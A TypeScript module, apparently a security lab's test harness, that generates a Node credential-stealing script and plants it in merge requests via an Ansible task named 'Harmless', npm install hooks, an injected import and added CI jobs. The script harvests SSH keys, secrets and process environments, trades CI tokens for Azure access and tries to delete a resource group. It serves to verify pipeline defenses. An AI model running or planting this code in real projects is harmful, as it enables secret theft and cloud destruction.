/**
 * Merge requests whose author wants more than a preview: keys, secrets, a write to Azure, a comment. Each puts the same
 * code into another place of what a job runs.
 */
import type { Changes } from "./origin.ts";

/** File that the code leaves, with everything that it found and how far it came. */
export const lootFile = "loot.json";

/** Prefix of what it tries to make at Azure. */
export const lootGroup = "rg-loot";

/** What the code knows from a look at this project. */
export interface Known {
  arm: string;
  subscriptionId: string;
  tenantId: string;
  /** Client IDs, which are no secrets. */
  identities: Readonly<Record<string, string>>;
  gitlab: string;
  projectId: number;
  mergeRequest: number;
  /** Where the lab keeps what it keeps for itself. */
  stateDir: string;
}

/** What a run of the code left. */
export interface Loot {
  environment: Record<string, string>;
  /** Files that it has read, by their paths. */
  files: Record<string, string>;
  /** Answers to its requests, by what it wanted. */
  answers: Record<string, number | string>;
}

/**
 * What the code has got that an author may not have; nothing where all is well.
 *
 * @param secrets Strings that let somebody in, or that stacks keep.
 * @param identity What it may log in as; undefined for nothing.
 */
export function gains(loot: Loot, secrets: readonly string[], identity?: string): string[] {
  const text = JSON.stringify(loot);
  const held = (secret: string) => text.includes(JSON.stringify(secret).slice(1, -1));
  const allowed = identity ? [`login as ${identity}`, `read as ${identity}`] : [];
  return [
    ...secrets.filter(held).map((secret) => `the secret that begins with ${secret.slice(0, 4)}`),
    ...Object.keys(loot.environment).filter((name) => name === "PLATFORM_GITLAB_TOKEN"),
    ...Object.entries(loot.answers)
      .filter(([what, answer]) => !allowed.includes(what) && Number(answer) < 400)
      .map(([what, answer]) => `${what}: ${answer}`),
  ];
}

/** What the code was to try and has not; a test that it got nothing would prove nothing. */
export function untried({ answers }: Loot, { identities }: Pick<Known, "identities">, identity?: string): string[] {
  const wanted = [
    ...Object.keys(identities).map((name) => `login as ${name}`),
    ...(identity ? ["read", "write", "delete"].map((what) => `${what} as ${identity}`) : []),
    ...comments,
  ];
  return wanted.filter((what) => answers[what] === undefined);
}

const comments = [
  "comment without a token",
  "comment with the job's token",
  "comment with a job's token as one's own",
  "comment with a project token",
];

/** The code, for Node.js. It fails nowhere: what does not work is noted. */
export function code(known: Known): string {
  return `
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { homedir } from "node:os";
const known = ${JSON.stringify(known)};
const loot = { environment: { ...process.env }, files: {}, answers: {} };
const attempt = async (name, work) => {
  try { loot.answers[name] = await work(); } catch (error) { loot.answers[name] = String(error?.cause ?? error); }
};
const folders = [known.stateDir, known.stateDir + "/ssh", known.stateDir + "/secrets", known.stateDir + "/pulumi/.pulumi/stacks/platform",
  homedir(), homedir() + "/.ssh", "/root", "/root/.ssh", "/root/.cache", "/home", "/var/lib/platform-lab"];
for (const folder of folders) {
  let names = [];
  try { names = readdirSync(folder); } catch {}
  for (const name of names) { try { loot.files[folder + "/" + name] = readFileSync(folder + "/" + name, "utf8").slice(0, 20000); } catch {} }
}
for (const name of ["credentials.json", "arm.db", "ssh/id_ed25519", "tls/ca.key"]) {
  try { loot.files[name] = readFileSync(known.stateDir + "/" + name, "latin1").slice(0, 20000); } catch {}
}
for (const pid of readdirSync("/proc").filter((one) => /^\\d+$/.test(one))) {
  try { loot.files["/proc/" + pid + "/environ"] = readFileSync("/proc/" + pid + "/environ", "utf8"); } catch {}
}
const tokenFor = async (clientId) => {
  const form = { grant_type: "client_credentials", client_id: clientId, scope: known.arm + "/.default",
    client_assertion_type: "urn:ietf:params:oauth:client-assertion-type:jwt-bearer",
    client_assertion: process.env.ARM_OIDC_TOKEN ?? "" };
  const answer = await fetch(known.arm + "/" + known.tenantId + "/oauth2/v2.0/token", { method: "POST", body: new URLSearchParams(form) });
  const { access_token: token, error_description: said } = await answer.json();
  if (token === undefined) throw new Error(said);
  return token;
};
for (const [name, clientId] of Object.entries(known.identities)) {
  let token;
  await attempt("login as " + name, async () => { token = await tokenFor(clientId); return 200; });
  if (token === undefined) continue;
  const ask = (method, path, body) => fetch(known.arm + path, { method, body: body && JSON.stringify(body),
    headers: { authorization: "Bearer " + token, "content-type": "application/json" } }).then(({ status }) => status);
  const group = "/subscriptions/" + known.subscriptionId + "/resourcegroups/${lootGroup}-" + name;
  await attempt("read as " + name, () => ask("GET", "/subscriptions/" + known.subscriptionId + "/resourcegroups?api-version=2021-04-01"));
  await attempt("write as " + name, () => ask("PUT", group + "?api-version=2021-04-01", { location: "westeurope" }));
  await attempt("delete as " + name, () => ask("DELETE", "/subscriptions/" + known.subscriptionId + "/resourcegroups/rg-platform-dev?api-version=2021-04-01"));
}
const notes = known.gitlab + "/api/v4/projects/" + known.projectId + "/merge_requests/" + known.mergeRequest + "/notes";
for (const [name, headers] of Object.entries({
  "comment without a token": {},
  "comment with the job's token": { "job-token": process.env.CI_JOB_TOKEN ?? "" },
  "comment with a job's token as one's own": { "private-token": process.env.CI_JOB_TOKEN ?? "" },
  "comment with a project token": { "private-token": process.env.PLATFORM_GITLAB_TOKEN ?? "" },
})) await attempt(name, () => fetch(notes, { method: "POST", headers: { "content-type": "application/json", ...headers },
  body: JSON.stringify({ body: "approved by nobody" }) }).then(({ status }) => status));
writeFileSync(${JSON.stringify(lootFile)}, JSON.stringify(loot));
console.log(JSON.stringify(loot.answers));
`;
}

export interface Attack {
  /** Where the code stands. */
  name: string;
  branch: string;
  fork?: { branch: string };
  /**
   * A job of a protected environment that runs it, what that logs in as where somebody starts it who may deploy there, and
   * whether it has the key of the state as well.
   */
  deployment?: { job: string; identity: string; decrypts?: true };
  changes: (known: Known, read: (path: string) => string) => Changes;
}

/** Jobs of the author's own, which keep the loot as artifact. */
const ownJob = (name: string, more: string) => `
${name}:
  stage: check
  rules: [{if: $CI_PIPELINE_SOURCE == "merge_request_event"}]
  id_tokens: {ARM_OIDC_TOKEN: {aud: api://AzureADTokenExchange}}
  script: [node steal.mjs]
  artifacts: {when: always, paths: [${lootFile}]}${more}
`;

/** So that a stack is previewed at all. */
const trigger = (read: (path: string) => string): Changes => ({ "index.ts": `${read("index.ts")}\n` });

export const attacks: readonly Attack[] = [
  {
    name: "in a playbook, which Ansible runs where the exact preview checks the machines",
    branch: "playbook",
    deployment: { job: "exact:dev", identity: "dev-exact", decrypts: true },
    changes: (known) => ({
      "steal.mjs": code(known),
      "ansible/playbooks/environment.yml": [
        "---",
        "- name: Harmless",
        "  hosts: localhost",
        "  connection: local",
        "  gather_facts: false",
        "  tasks:",
        "    - name: Take",
        "      ansible.builtin.command:",
        "        cmd: node steal.mjs",
        '        chdir: "{{ playbook_dir }}/../.."',
        "      changed_when: false",
        "      check_mode: false",
        "",
      ].join("\n"),
    }),
  },
  {
    name: "in the program",
    branch: "program",
    changes: (known, read) => ({
      "steal.mjs": code(known),
      "index.ts": `${read("index.ts")}\nawait import("./steal.mjs" as string);\n`,
    }),
  },
  {
    name: "in the scripts of packages",
    branch: "packages",
    changes: (known, read) => ({
      ...trigger(read),
      "steal.mjs": code(known),
      "package.json": JSON.stringify(
        {
          ...(JSON.parse(read("package.json")) as object),
          scripts: { preinstall: "node steal.mjs", postinstall: "node steal.mjs", prepare: "node steal.mjs" },
        },
        null,
        2,
      ),
      "bin/setup": '#!/bin/sh\nset -eu\ncd "$(dirname "$0")/.."\n. bin/environment\nnpm run postinstall\n',
    }),
  },
  {
    name: "in the pipeline itself, whose job in dev's environment says that it is prod's",
    branch: "pipeline",
    deployment: { job: "steal-as-prod", identity: "prod-exact" },
    changes: (known, read) => ({
      "steal.mjs": code(known),
      ".gitlab-ci.yml":
        read(".gitlab-ci.yml") +
        ownJob("steal", "") +
        ownJob("steal-as-prod", "\n  environment: {name: dev, deployment_tier: production}"),
    }),
  },
  {
    name: "on a branch that a fork calls main, where somebody lets its pipeline run in this project",
    branch: "of-a-fork",
    fork: { branch: "main" },
    changes: (known, read) => ({
      "steal.mjs": code(known),
      ".gitlab-ci.yml": read(".gitlab-ci.yml") + ownJob("steal", ""),
    }),
  },
];
